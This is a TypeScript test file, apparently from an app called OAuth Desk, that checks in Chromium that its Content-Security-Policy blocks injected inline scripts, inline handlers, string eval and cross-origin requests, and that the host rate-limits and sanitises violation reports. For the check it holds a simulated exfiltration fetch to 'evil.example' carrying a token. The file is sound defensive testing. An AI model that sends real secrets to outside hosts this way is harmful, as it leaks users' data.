/**
 * S26 in Chromium: the real renderer served by `npm run web` carries its Content-Security-Policy as
 * a header, refuses injected inline scripts, inline event handlers, string eval and requests to other
 * origins, and reports each violation to the host, which logs the directive and the kind of thing
 * blocked, never the blocked URL nor the page's access key.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { RENDERER_CSP } from '../../electron/shared/content-security-policy.ts';
import { CSP_VIOLATION_MESSAGE } from '../../electron/core/logging/csp-violation-log.ts';
import { launchChromium, loopbackOnlyContext } from '../helpers/chromium.ts';
import { tempDataDir } from '../helpers/temp-dir.ts';
import { startWebHost } from '../helpers/web-host.ts';

/** Polls `condition` every 25 ms until it holds; fails with `what` after `timeoutMs`. */
async function waitUntil(condition: () => boolean, what: string, timeoutMs = 10_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!condition()) {
    if (Date.now() > deadline) throw new Error(`timed out after ${timeoutMs} ms waiting for ${what}`);
    await new Promise((resolve) => setTimeout(resolve, 25));
  }
}

interface LoggedViolation {
  readonly directive: string;
  readonly blocked: string;
  readonly source: string;
  readonly line: number;
}

/** The CSP violations the host logged on stderr, with their fields. */
function loggedViolations(stderr: string): LoggedViolation[] {
  return stderr
    .split('\n')
    .filter((line) => line.includes(` warn ${CSP_VIOLATION_MESSAGE} `))
    .map((line) => JSON.parse(line.slice(line.indexOf('{'))) as LoggedViolation);
}

const MARKER = 'csp-probe-7f3a9c';

test('S26 injected inline scripts, inline handlers, string eval and foreign requests are blocked in Chromium, and the web host logs each violation without the blocked URL', async (t) => {
  const host = await startWebHost({ OAUTH_DESK_DATA_DIR: tempDataDir(t) });
  t.after(() => host.stop());
  const key = new URL(host.url).hash.replace(/^#key=/, '');
  assert.ok(key.length >= 20);
  const browser = await launchChromium();
  t.after(() => browser.close());
  const context = await loopbackOnlyContext(browser);
  const page = await context.newPage();
  const pageErrors: string[] = [];
  page.on('pageerror', (e) => pageErrors.push(e.message));

  const response = await page.goto(host.url);
  assert.equal(response?.status(), 200);
  assert.equal(response?.headers()['content-security-policy'], RENDERER_CSP, 'index.html is served with the policy as a header');
  assert.doesNotMatch(RENDERER_CSP, /unsafe-inline|unsafe-eval/);
  // The app is running (its bundle is allowed by 'self') before anything is injected.
  await page.getByRole('region', { name: 'Sandbox', exact: true }).waitFor();
  assert.deepEqual(loggedViolations(host.output().stderr), [], 'the app itself violates nothing');

  const outcome = await page.evaluate(async (marker) => {
    const flags = window as unknown as Record<string, unknown>;
    // An inline <script> element.
    const script = document.createElement('script');
    script.textContent = `window.cspInlineRan = '${marker}';`;
    document.body.append(script);
    // An inline event handler attribute, clicked.
    const button = document.createElement('button');
    button.setAttribute('onclick', `window.cspHandlerRan = '${marker}';`);
    document.body.append(button);
    button.click();
    // Code from a string: setTimeout with text, and eval.
    (window.setTimeout as unknown as (code: string, ms: number) => number)(`window.cspTimeoutRan = '${marker}';`, 0);
    // eval from the page's own task (the driver's evaluation itself is exempt from the policy).
    const evalThrew = await new Promise<boolean>((resolve) =>
      setTimeout(() => {
        try {
          (0, window.eval)(`window.cspEvalRan = '${marker}';`);
          resolve(false);
        } catch {
          resolve(true);
        }
      }, 0),
    );
    // A request to another origin, carrying something that looks like a secret.
    let fetchRefused = false;
    try {
      await fetch(`https://evil.example/collect?token=${marker}`);
    } catch {
      fetchRefused = true;
    }
    // A timer queued after the string timer runs after it would have.
    await new Promise((resolve) => setTimeout(resolve, 0));
    return {
      ran: [flags.cspInlineRan, flags.cspHandlerRan, flags.cspTimeoutRan, flags.cspEvalRan],
      evalThrew,
      fetchRefused,
    };
  }, MARKER);
  assert.deepEqual(outcome, { ran: [undefined, undefined, undefined, undefined], evalThrew: true, fetchRefused: true });

  const expected = [
    { directive: 'script-src-elem', blocked: 'inline' },
    { directive: 'script-src-attr', blocked: 'inline' },
    { directive: 'script-src', blocked: 'eval' },
    { directive: 'connect-src', blocked: 'https' },
  ];
  const seen = (d: { directive: string; blocked: string }) => loggedViolations(host.output().stderr).some((v) => v.directive === d.directive && v.blocked === d.blocked);
  await waitUntil(() => expected.every(seen), `the host to log ${JSON.stringify(expected)}; stderr:\n${host.output().stderr}`);

  const flagsLater = await page.evaluate(() => {
    const flags = window as unknown as Record<string, unknown>;
    return [flags.cspInlineRan, flags.cspHandlerRan, flags.cspTimeoutRan, flags.cspEvalRan];
  });
  assert.deepEqual(flagsLater, [undefined, undefined, undefined, undefined], 'nothing injected ever ran');

  const violations = loggedViolations(host.output().stderr);
  for (const v of violations) {
    assert.deepEqual(Object.keys(v).sort(), ['blocked', 'directive', 'line', 'source'], 'only the report fields are logged');
    assert.match(v.source, /^(\/[A-Za-z0-9._~-]*)*$/, 'the source is a path of the app, not a URL');
    assert.equal(typeof v.line, 'number');
  }
  const stderr = host.output().stderr;
  assert.ok(!stderr.includes(MARKER), 'S29 neither the blocked URL nor the injected code reaches the log');
  assert.ok(!stderr.includes('evil.example'), 'the blocked host is not logged');
  assert.ok(!stderr.includes(key), 'S29 the page address (with its access key) is not logged');
  assert.deepEqual(pageErrors.filter((m) => !/Content Security Policy|EvalError/i.test(m)), [], 'no other page errors');
});

test('S26 a hostile page flooding CSP reports straight at the channel gets at most 20 lines a minute into the host log', async (t) => {
  const host = await startWebHost({ OAUTH_DESK_DATA_DIR: tempDataDir(t) });
  t.after(() => host.stop());
  const browser = await launchChromium();
  t.after(() => browser.close());
  const page = await (await loopbackOnlyContext(browser)).newPage();
  await page.goto(host.url);
  await page.getByRole('region', { name: 'Sandbox', exact: true }).waitFor();

  // Script running in the page (as an injected one would) calls the channel itself, 100 distinct reports.
  const answers = await page.evaluate(async () => {
    const key = sessionStorage.getItem('oauthDesk.webKey') ?? '';
    const calls = [];
    for (let line = 1; line <= 100; line++) {
      calls.push(
        fetch('/api/invoke/system:report-csp-violation', {
          method: 'POST',
          headers: { 'Content-Type': 'application/json', 'X-OAuth-Desk-Key': key },
          body: JSON.stringify({ payload: { directive: 'script-src-elem', blocked: 'inline', source: '/', line } }),
        }).then((r) => r.json() as Promise<{ ok: boolean }>),
      );
    }
    return Promise.all(calls);
  });
  assert.equal(answers.length, 100);
  assert.ok(answers.every((a) => a.ok), 'each report was accepted (and dropped quietly past the limit)');
  // Every call was answered, so the host has handled (logged or dropped) all 100.
  const lines = loggedViolations(host.output().stderr);
  assert.equal(lines.length, 20, 'the first 20 of the minute are logged, the rest dropped');
  assert.equal(new Set(lines.map((l) => l.line)).size, 20, 'twenty distinct reports, as sent');

  // A report carrying a URL is refused by the validator and never logged.
  const refused = await page.evaluate(async () => {
    const r = await fetch('/api/invoke/system:report-csp-violation', {
      method: 'POST',
      headers: { 'Content-Type': 'application/json', 'X-OAuth-Desk-Key': sessionStorage.getItem('oauthDesk.webKey') ?? '' },
      body: JSON.stringify({ payload: { directive: 'img-src', blocked: 'https://evil.example/?token=csp-probe-url', source: '/', line: 1 } }),
    });
    return (await r.json()) as { ok: boolean; error?: { code: string } };
  });
  assert.equal(refused.error?.code, 'ipc_invalid_payload');
  assert.ok(!host.output().stderr.includes('csp-probe-url'));
});
